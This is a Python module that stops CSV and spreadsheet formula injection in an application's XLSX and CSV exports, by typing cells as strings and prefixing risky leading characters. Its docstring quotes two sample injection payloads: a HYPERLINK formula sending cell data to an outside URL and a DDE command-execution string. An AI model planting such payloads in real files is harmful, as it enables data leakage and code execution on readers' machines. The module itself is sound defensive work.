"""Spreadsheet cells from user or imported text, written as text and never as a formula.

Consultant and chat-author names, companies, reviewers, comments and criterion titles come from
clients' files and from people typing; a name such as ``=HYPERLINK("http://x"&A1)`` or
``=cmd|' /C calc'!A0`` must reach the reader as those characters, not run as a formula when the
file is opened (OWASP, "CSV injection"). Every XLSX and CSV writer of the application goes
through this module:

- XLSX: ``append_row`` gives every string cell the string type explicitly, so the text is kept
  exactly (a comment may rightly start with "-") and no spreadsheet evaluates it. The only
  formulas in a file are the ones the writer itself builds, marked with ``Formula``.
- CSV has no cell types, so ``csv_cell`` prefixes text that a spreadsheet would read as a
  formula (leading ``=``, ``+``, ``-``, ``@``, tab or carriage return) with an apostrophe, as
  OWASP recommends; ``csv_row`` does it for a whole row.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class Formula(str):
    """A formula the writer built itself (``=SUM(G5:G20)``); the only kind written live."""

    __slots__ = ()


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet could take *text* for a formula or a DDE call."""
    return text.startswith(FORMULA_TRIGGERS)


def csv_cell(value: Any) -> Any:
    """*value* for a CSV file: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and not isinstance(value, Formula) and looks_like_formula(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def text_cell(ws: Worksheet, value: Any) -> Any:
    """A value for ``ws.append``: text becomes a cell typed as a string, other values stay."""
    if isinstance(value, str) and not isinstance(value, Formula):
        cell = Cell(ws, value=value)
        cell.data_type = "s"  # a string cell; openpyxl would make "=..." a formula
        return cell
    return value


def append_row(ws: Worksheet, values: Sequence[Any]) -> None:
    """``ws.append(values)`` with every string written as text (see the module's note)."""
    ws.append([text_cell(ws, v) for v in values])
